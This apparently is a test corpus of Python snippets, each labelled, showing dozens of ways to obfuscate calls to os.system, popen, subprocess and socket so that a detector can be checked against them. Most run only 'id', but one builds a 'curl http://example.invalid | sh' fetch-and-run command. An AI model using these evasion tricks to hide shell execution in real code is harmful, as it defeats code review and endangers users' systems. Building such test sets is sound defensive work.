#--- name-concat: two halves with plus
import os
getattr(os, "sys" + "tem")("id")
#--- name-concat-variables: two halves in variables
import os
a = "po"
b = "pen"
print(getattr(os, a + b)("id").read())
#--- name-implicit-concat: adjacent literals
import os
getattr(os, "s" "y" "s" "tem")("id")
#--- name-join: joined from a list
import os
getattr(os, "".join(["s", "ystem"]))("id")
#--- name-join-generator: joined from a generator
import os
getattr(os, "".join(c for c in "s-y-s-t-e-m" if c != "-"))("id")
#--- name-reversed-slice: a slice with step -1
import os
getattr(os, "metsys"[::-1])("id")
#--- name-reversed-function: reversed and join
import os
getattr(os, "".join(reversed("nepop")))("id")
#--- name-every-second: a slice with step 2
import os
getattr(os, "sxyxsxtxexm"[::2])("id")
#--- name-slices-of-words: cut out of a sentence
import os
text = "the system is ready"
getattr(os, text[4:10])("id")
#--- name-percent: percent formatting
import os
getattr(os, "%s%s" % ("sys", "tem"))("id")
#--- name-format: str.format
import os
getattr(os, "{}{}".format("sys", "tem"))("id")
#--- name-format-keywords: str.format with names
import os
getattr(os, "{b}{a}".format(a="tem", b="sys"))("id")
#--- name-fstring: an f-string
import os
part = "tem"
getattr(os, f"sys{part}")("id")
#--- name-fstring-nested: a nested f-string
import os
getattr(os, f"{'s'}{'ys'}{f'{chr(116)}em'}")("id")
#--- name-replace: letters swapped by replace
import os
getattr(os, "s1st2m".replace("1", "y").replace("2", "e"))("id")
#--- name-translate: letters swapped by translate
import os
getattr(os, "5y5t3m".translate(str.maketrans("53", "se")))("id")
#--- name-lower: made of capitals
import os
getattr(os, "SYSTEM".lower())("id")
#--- name-swapcase-strip: stripped and swapped
import os
getattr(os, "  SYSTEM ".strip().swapcase())("id")
#--- name-removeprefix: a prefix removed
import os
getattr(os, "ecosystem".removeprefix("eco"))("id")
#--- name-split-index: the second word
import os
getattr(os, "file system disk".split()[1])("id")
#--- name-partition: the text after a colon
import os
getattr(os, "call:popen".partition(":")[2])("id")
#--- name-bytes-decode: from bytes
import os
getattr(os, b"system".decode())("id")
#--- name-bytes-list: from a list of numbers
import os
getattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())("id")
#--- name-bytearray: from a bytearray
import os
getattr(os, bytearray(b"system").decode("ascii"))("id")
#--- name-fromhex: from hex digits
import os
getattr(os, bytes.fromhex("73797374656d").decode())("id")
#--- name-int-to-bytes: from one big number
import os
getattr(os, (0x73797374656D).to_bytes(6, "big").decode())("id")
#--- name-chr-list: from character codes
import os
getattr(os, "".join([chr(n) for n in (115, 121, 115, 116, 101, 109)]))("id")
#--- name-chr-map: from character codes by map
import os
getattr(os, "".join(map(chr, [112, 111, 112, 101, 110])))("id")
#--- name-chr-plus: codes joined with plus
import os
getattr(os, chr(115) + chr(121) + chr(115) + chr(116) + chr(101) + chr(109))("id")
#--- name-chr-shifted: codes shifted by one
import os
getattr(os, "".join(chr(ord(c) - 1) for c in "tztufn"))("id")
#--- name-xor: codes xor-ed with a key
import os
key = 7
getattr(os, "".join(chr(n ^ key) for n in [116, 126, 116, 115, 98, 106]))("id")
#--- name-escapes-hex: hex escapes in the literal
import os
getattr(os, "\x73\x79\x73\x74\x65\x6d")("id")
#--- name-escapes-octal: octal escapes in the literal
import os
getattr(os, "\163\171\163\164\145\155")("id")
#--- name-escapes-unicode: unicode escapes in the literal
import os
getattr(os, "\u0073\u0079stem")("id")
#--- name-escapes-named: named characters in the literal
import os
getattr(os, "\N{LATIN SMALL LETTER S}ystem")("id")
#--- identifier-fullwidth: identifiers are normalised by Python
import os
os.ｓｙｓｔｅｍ("id")
#--- identifier-math-italic-eval: another letter form of a builtin
𝑒𝑣𝑎𝑙("__import__('os').system('id')")
#--- identifier-fullwidth-import: a module in another letter form
import ｏｓ
os.system("id")
#--- name-dict-lookup: letters looked up in a table
import os
t = {1: "s", 2: "y", 3: "t", 4: "e", 5: "m"}
getattr(os, t[1] + t[2] + t[1] + t[3] + t[4] + t[5])("id")
#--- name-list-lookup: words looked up in a list
import os
words = ["listdir", "getcwd", "system"]
getattr(os, words[-1])("id")
#--- name-from-docstring: letters out of a docstring
import os
def note():
    """system"""
getattr(os, note.__doc__)("id")
#--- name-from-function-name: the name of an own function
import os
def system():
    pass
getattr(os, system.__name__)("id")
#--- name-from-class-name: the name of an own class
import os
class popen:
    pass
getattr(os, popen.__qualname__)("id")
#--- name-from-kwargs-key: the key of a keyword argument
import os
def pick(**kw):
    return next(iter(kw))
getattr(os, pick(system=1))("id")
#--- name-from-enum: the value of an enum member
import enum, os
class Op(enum.Enum):
    RUN = "system"
getattr(os, Op.RUN.value)("id")
#--- name-from-dir: searched in dir()
import os
name = [n for n in dir(os) if n.startswith("sys") and n.endswith("m")][0]
getattr(os, name)("id")
#--- name-from-dir-length: searched by length and letters
import os
for n in dir(os):
    if len(n) == 5 and sorted(n) == sorted("popen"):
        getattr(os, n)("id")
#--- name-from-string-module: letters of the alphabet
import os, string
al = string.ascii_lowercase
getattr(os, al[18] + al[24] + al[18] + al[19] + al[4] + al[12])("id")
#--- name-from-json: parsed out of JSON
import json, os
spec = json.loads('{"fn": "system", "arg": "id"}')
getattr(os, spec["fn"])(spec["arg"])
#--- name-from-regex: taken by a regex
import os, re
getattr(os, re.search(r"fn=(\w+)", "x;fn=system;y").group(1))("id")
#--- name-from-percent-c: percent c codes
import os
getattr(os, "%c%c%c%c%c" % (112, 111, 112, 101, 110))("id")
#--- name-augmented: grown by augmented assignment
import os
n = "s"
n += "ys"
n += "tem"
getattr(os, n)("id")
#--- name-grown-in-loop: grown in a loop
import os
n = ""
for part in ("p", "op", "en"):
    n += part
getattr(os, n)("id")
#--- name-multiplied: made of a repetition
getattr(__builtins__, "_" * 2 + "import" + "_" * 2)("os").system("id")
#--- module-name-concat: module name joined from two halves
__import__("sub" + "process").run(["id"])
#--- module-name-reversed: module name backwards
__import__("ssecorpbus"[::-1]).run(["id"])
#--- module-name-join: module name joined by a dot
import importlib
importlib.import_module(".".join(("urllib", "request"))).urlopen("http://example.invalid")
#--- module-name-zip: two letter rows woven together
__import__("".join(a + b for a, b in zip("sce", "okt"))).create_connection(("192.0.2.1", 1))
#--- module-name-ternary: one of two names
import sys
name = "subprocess" if sys.maxsize else "json"
__import__(name).run(["id"])
#--- module-name-base36: a number written in letters
n, s = 892, ""
while n:
    n, r = divmod(n, 36)
    s = "0123456789abcdefghijklmnopqrstuvwxyz"[r] + s
__import__(s)
__import__("os").system("id")
#--- module-name-slots: the parts in a tuple
parts = ("o", "s", "system", "id")
getattr(__import__(parts[0] + parts[1]), parts[2])(parts[3])
#--- module-name-rot13: rot13 of the module name
import codecs
__import__(codecs.decode("fhocebprff", "rot13")).run(["id"])
#--- module-name-base64: base64 of the module name
import base64
__import__(base64.b64decode("c3VicHJvY2Vzcw==").decode()).run(["id"])
#--- command-built-only: the function is plain, the command is built
import os
os.system("".join(["c", "url", " http://example.invalid | s", "h"]))
#--- list-inserted-before: the first of a list is put there later
l = ["json"]
l.insert(0, "subprocess")
__import__(l[0]).run(["id"])
#--- text-grows-by-itself: a name that is made longer by itself
n = ""
n = n + "sub"
n = n + "process"
__import__(n).run(["id"])
#--- filtered-letters: letters among digits
__import__("".join(filter(str.isalpha, "s1u2b3process"))).run(["id"])
#--- sorted-parts: parts in the order of their marks
parts = sorted(["2process", "1sub"])
__import__("".join(p[1:] for p in parts)).run(["id"])
#--- members-as-table: a table of members
import os
from inspect import getmembers
dict(getmembers(os))["system"]("id")
